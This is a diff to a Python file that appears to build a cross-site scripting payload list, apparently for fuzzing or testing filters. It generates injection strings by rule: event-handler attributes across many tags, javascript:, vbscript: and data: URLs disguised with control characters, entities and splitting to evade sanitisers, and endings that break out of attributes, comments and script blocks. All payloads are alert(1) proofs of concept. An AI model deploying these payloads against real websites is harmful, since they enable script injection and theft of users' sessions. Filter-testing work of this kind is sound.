@@ -291,3 +291,96 @@ PAGE = [
 ]
 
 PAYLOADS = RAW_ELEMENTS + EVENTS + SCHEMES + MUTATION + PAGE
+
+# Written out by rule: what differs is a name, an encoding or a place, and a filter forgets one of them.
+
+HANDLERS = (
+    "abort afterprint animationend animationstart auxclick beforecopy beforeinput beforematch "
+    "beforeprint beforetoggle beforeunload begin blur bounce canplay change click close "
+    "contentvisibilityautostatechange contextmenu copy cuechange cut dblclick drag dragend dragstart "
+    "drop durationchange end ended error focus focusin focusout formdata fullscreenchange "
+    "gotpointercapture hashchange input invalid keydown keypress keyup load loadeddata loadstart "
+    "lostpointercapture message mousedown mouseenter mouseleave mousemove mouseout mouseover mouseup "
+    "mousewheel pagehide pageshow paste play pointercancel pointerdown pointerenter pointermove "
+    "pointerover pointerrawupdate pointerup popstate progress repeat reset resize scroll scrollend "
+    "scrollsnapchange search securitypolicyviolation seeked select selectionchange selectstart show "
+    "slotchange start stalled storage submit suspend timeupdate toggle touchend touchmove touchstart "
+    "transitionend transitionrun unhandledrejection unload volumechange waiting wheel "
+    "webkitanimationend webkitfullscreenchange webkitmouseforcechanged"
+)
+
+CARRIERS_OF_HANDLERS = [
+    "<img src=x on{}=alert(1)>",
+    '<p tabindex=0 autofocus contenteditable on{}="alert(1)">x</p>',
+    "<svg><a on{}=alert(1)><text>x</text></a></svg>",
+    "<details open on{}=alert(1)><summary>x</summary></details>",
+]
+
+SCRIPT_ADDRESSES = [
+    "javascript:alert(1)",
+    "JaVaScRiPt:alert(1)",
+    " javascript:alert(1)",
+    "\x01javascript:alert(1)",
+    "\x1fjavascript:alert(1)",
+    "\u00a0javascript:alert(1)",
+    "java\tscript:alert(1)",
+    "java\nscript:alert(1)",
+    "java\rscript:alert(1)",
+    "javascript\t:alert(1)",
+    "java\x00script:alert(1)",
+    "&#106;avascript:alert(1)",
+    "&#x6A;avascript:alert(1)",
+    "&#0000106avascript:alert(1)",
+    "java&Tab;script:alert(1)",
+    "java&NewLine;script:alert(1)",
+    "javascript&colon;alert(1)",
+    "javascript&#58;alert(1)",
+    "javascript&#x3a;alert(1)",
+    "javascript://x/%0aalert(1)",
+    "javascript:/*--></title></style></textarea></script>*/alert(1)",
+    "javascript:1?alert(1):0",
+    "vbscript:alert(1)",
+    "data:text/html,<script>alert(1)</script>",
+    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
+    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
+    "view-source:javascript:alert(1)",
+    "feed:javascript:alert(1)",
+    "blob:javascript:alert(1)",
+]
+
+CARRIERS_OF_ADDRESSES = [
+    '<a href="{}">x</a>',
+    '<a href="{}" target=_blank rel=opener>x</a>',
+    '<svg><a xlink:href="{}"><text y=20>x</text></a></svg>',
+    '<math><mi xlink:href="{}">x</mi></math>',
+    '<form action="{}"><button>x</button></form>',
+    '<form><button formaction="{}">x</button></form>',
+    '<iframe src="{}"></iframe>',
+    '<img src="{}">',
+    '<object data="{}"></object>',
+    '<video><source src="{}"></video>',
+]
+
+# What ends the text, the attribute, the comment or the block in which a template may have put it.
+ENDINGS = [
+    "",
+    '">',
+    "'>",
+    "-->",
+    "]]>",
+    "</title>",
+    "</textarea>",
+    "</style>",
+    "</script>",
+    "</template>",
+    "{{",
+    "\\",
+]
+BROKEN_OUT = ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>"]
+
+BY_RULE = [
+    *(carrier.format(name) for carrier in CARRIERS_OF_HANDLERS for name in HANDLERS.split()),
+    *(carrier.format(address) for carrier in CARRIERS_OF_ADDRESSES for address in SCRIPT_ADDRESSES),
+    *(ending + rest for ending in ENDINGS for rest in BROKEN_OUT),
+]
+EVERYTHING = list(dict.fromkeys(PAYLOADS + BY_RULE))
